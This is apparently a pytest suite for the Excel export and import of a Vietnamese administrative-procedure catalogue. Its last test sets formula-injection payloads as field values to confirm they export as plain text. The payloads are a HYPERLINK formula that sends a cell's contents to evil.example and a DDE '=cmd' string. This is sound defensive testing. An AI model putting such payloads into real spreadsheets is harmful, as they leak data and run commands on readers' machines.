"""The catalogue workbook: export → import round-trips; any rejected row saves nothing."""

from __future__ import annotations

import io
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook

from tinhso.ledger.models import Entry
from tinhso.onestop.catalogue.tests.snapshots import LLTP, catalogue_snapshot
from tinhso.onestop.catalogue.workbook import procedures_export_xlsx, procedures_import_xlsx
from tinhso.onestop.demo.services import demo_load
from tinhso.onestop.models import DocumentRequirement, Procedure, WorkflowStep
from tinhso.onestop.tests.factories import DocumentRequirementFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def demo(demo_agencies: dict[str, Any]) -> None:
    demo_load()


def _book(data: bytes) -> Any:
    return load_workbook(io.BytesIO(data))


def _save(book: Any) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _export() -> bytes:
    return procedures_export_xlsx(Procedure.objects.order_by("code"))


def test_export_has_the_four_sheets_with_frozen_headers_and_dropdowns(demo: None) -> None:
    book = _book(_export())
    assert book.sheetnames == ["Thủ tục", "Thành phần hồ sơ", "Quy trình", "Tờ khai"]
    main = book["Thủ tục"]
    assert main["A1"].value == "Mã thủ tục"
    assert main.freeze_panes == "A2"
    assert main.max_row == 1 + Procedure.objects.count()
    formulas = [v.formula1 for v in main.data_validations.dataValidation]
    assert any("Toàn trình" in f for f in formulas)
    row = next(r for r in main.iter_rows(min_row=2, values_only=True) if r[0] == LLTP)
    assert row[3] == "Cấp tỉnh"
    assert row[4] == "hy.stp; hy.ttpvhcc"
    assert row[7] == 10
    assert row[8] == 200000
    same_day = next(r for r in main.iter_rows(min_row=2, values_only=True) if r[0] == "1.001193.000.00.00.H31")
    assert main.cell(row=1, column=13).value == "Giờ chốt tiếp nhận"
    assert same_day[12] == 15
    form = book["Tờ khai"]
    assert form.cell(row=1, column=8).value == "Điền sẵn từ tài khoản"
    prefills = [r[7] for r in form.iter_rows(min_row=2, values_only=True) if r[0] == LLTP]
    assert prefills[:2] == ["full_name", "personal_id"]


def test_export_then_import_round_trips_exactly(demo: None) -> None:
    before = catalogue_snapshot()
    data = _export()
    Procedure.objects.all().delete()
    outcome = procedures_import_xlsx(actor=None, data=data)
    assert outcome.saved, outcome.rejected
    assert outcome.created == len(before)
    assert catalogue_snapshot() == before
    # and the workbook it gives is the same again
    assert [list(s.values) for s in _book(_export())] == [list(s.values) for s in _book(data)]


def test_import_upserts_by_code_and_writes_one_ledger_entry(demo: None) -> None:
    book = _book(_export())
    main = book["Thủ tục"]
    for row in main.iter_rows(min_row=2):
        if row[0].value == LLTP:
            row[8].value = 250000
    entries = Entry.objects.count()
    outcome = procedures_import_xlsx(actor=None, data=_save(book))
    assert (outcome.saved, outcome.created, outcome.updated) == (True, 0, 1)
    assert outcome.unchanged == Procedure.objects.count() - 1
    assert Procedure.objects.get(code=LLTP).fee_vnd == 250000
    assert Entry.objects.count() == entries + 1
    entry = Entry.objects.order_by("-pk").first()
    assert entry is not None
    assert entry.action == "services.procedure.import"


def test_dry_run_saves_nothing(demo: None) -> None:
    data = _export()
    Procedure.objects.all().delete()
    outcome = procedures_import_xlsx(actor=None, data=data, dry_run=True)
    assert not outcome.saved
    assert not outcome.rejected
    assert outcome.created == 7
    assert not Procedure.objects.exists()


def _edit_main(book: Any, column: int, value: Any) -> None:
    for row in book["Thủ tục"].iter_rows(min_row=2):
        if row[0].value == LLTP:
            row[column].value = value


def _edit_step(book: Any, column: int, value: Any) -> None:
    for row in book["Quy trình"].iter_rows(min_row=2):
        if row[0].value == LLTP and row[1].value == 4:
            row[column].value = value


def _edit_form(book: Any, column: int, value: Any) -> None:
    for row in book["Tờ khai"].iter_rows(min_row=2):
        if row[0].value == LLTP and row[1].value == "ho_ten":
            row[column].value = value


def _dup(book: Any) -> None:
    main = book["Thủ tục"]
    first = next(main.iter_rows(min_row=2, max_row=2, values_only=True))
    main.append(list(first))


CASES = [
    (lambda b: _edit_main(b, 4, "hy.stp; hy.khong_co"), "Không tìm thấy cơ quan “hy.khong_co”"),
    (lambda b: _edit_main(b, 3, "Cấp huyện"), "Cấp thực hiện không hợp lệ"),
    (lambda b: _edit_main(b, 7, -1), "không được âm"),
    (lambda b: _edit_main(b, 12, 24), "Giờ chốt tiếp nhận phải từ 1 đến 23"),
    (lambda b: _edit_step(b, 5, -2), "không được âm"),
    (lambda b: _edit_main(b, 8, 200000.5), "phải là số nguyên"),
    (lambda b: _edit_main(b, 8, "hai trăm nghìn"), "phải là số nguyên"),
    (lambda b: _edit_main(b, 5, "Một phần"), "phải công khai lý do"),
    (lambda b: _edit_step(b, 5, 9), "vượt thời hạn giải quyết"),
    (_dup, "trùng với dòng"),
    (lambda b: _edit_step(b, 4, "Giám đốc"), "Vai trò “Giám đốc” không có trong danh mục vai trò"),
    (lambda b: _edit_form(b, 7, "ho_ten_cha"), "Nguồn điền sẵn “ho_ten_cha” không hợp lệ"),
]


@pytest.mark.parametrize(("edit", "reason"), CASES)
def test_a_rejected_row_saves_nothing(demo: None, edit: Any, reason: str) -> None:
    book = _book(_export())
    # a valid change elsewhere in the same file, which must not be saved either
    for row in book["Thủ tục"].iter_rows(min_row=2):
        if row[0].value != LLTP:
            row[9].value = "Ghi chú mới"
    edit(book)
    before, entries = catalogue_snapshot(), Entry.objects.count()
    counts = (DocumentRequirement.objects.count(), WorkflowStep.objects.count())
    outcome = procedures_import_xlsx(actor=None, data=_save(book))
    assert not outcome.saved
    assert len(outcome.rejected) == 1, outcome.rejected
    assert reason in outcome.rejected[0]["reason"]
    assert outcome.rejected[0]["sheet"] in ("Thủ tục", "Quy trình", "Tờ khai")
    assert catalogue_snapshot() == before
    assert (DocumentRequirement.objects.count(), WorkflowStep.objects.count()) == counts
    assert Entry.objects.count() == entries


def test_every_rejected_row_is_listed(demo: None) -> None:
    book = _book(_export())
    _edit_main(book, 3, "Cấp huyện")
    book["Thành phần hồ sơ"].append(["9.999999.000.00.00.H31", "Giấy tờ lạc", "Có", 1])
    outcome = procedures_import_xlsx(actor=None, data=_save(book))
    assert sorted(r["sheet"] for r in outcome.rejected) == ["Thành phần hồ sơ", "Thủ tục"]


def test_a_file_that_is_not_a_workbook_is_refused(demo_agencies: Any) -> None:
    from tinhso.core.errors import DomainError

    with pytest.raises(DomainError, match="Không đọc được tệp Excel"):
        procedures_import_xlsx(actor=None, data=b"not a workbook")


def test_demo_load_is_idempotent(demo_agencies: Any) -> None:
    first = demo_load()
    assert first.outcome.created == 7
    snapshot = catalogue_snapshot()
    second = demo_load()
    assert (second.outcome.created, second.outcome.updated, second.outcome.unchanged) == (0, 0, 7)
    assert catalogue_snapshot() == snapshot
    assert "0 cập nhật, 7 không đổi" in second.describe()
    for procedure in Procedure.objects.prefetch_related("steps"):
        assert sum((s.days for s in procedure.steps.all()), Decimal(0)) <= procedure.processing_days
        assert procedure.documents.exists()
        assert procedure.form_fields


def test_export_writes_text_that_looks_like_a_formula_as_text(demo_agencies: dict[str, Any]) -> None:
    """Whatever an officer typed into the catalogue (a name, a legal basis, a document, a form
    label) is a text cell of the export, never a formula, and reads back exactly."""
    evil = ['=HYPERLINK("http://evil.example/?d="&A2,"Bấm")', "+84 912", "-1+2", "@SUM(1,2)", " =1+1"]
    procedure = Procedure.objects.create(
        code="1.000001.000.00.00.H31",
        name=evil[0],
        field=evil[1],
        authority_level="province",
        online_level="partial",
        not_full_reason=evil[2],
        processing_days=Decimal(5),
        fee_vnd=0,
        fee_note=evil[3],
        result_type=evil[4],
        legal_basis="=cmd|' /C calc'!A0",
        form_fields=[{"name": "ly_do", "label": "=1+1", "type": "select", "options": ["=2+2", "-3"], "required": True}],
    )
    DocumentRequirementFactory(procedure=procedure, name="=Tờ khai", order=1)
    WorkflowStep.objects.create(
        procedure=procedure, order=1, action="receive", name="@Tiếp nhận", role="receiver", days=Decimal(1)
    )
    book = _book(procedures_export_xlsx(Procedure.objects.filter(pk=procedure.pk)))
    formulas = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    main = [cell.value for cell in book.worksheets[0][2]]
    assert main[:3] == [procedure.code, evil[0], evil[1]]
    assert (main[6], main[9], main[10], main[11]) == (evil[2], evil[3], evil[4], "=cmd|' /C calc'!A0")
    assert book.worksheets[1]["B2"].value == "=Tờ khai"
    assert book.worksheets[2]["D2"].value == "@Tiếp nhận"
    form = [cell.value for cell in book.worksheets[3][2]]
    assert form[2] == "=1+1"
    assert "=2+2" in form[5]
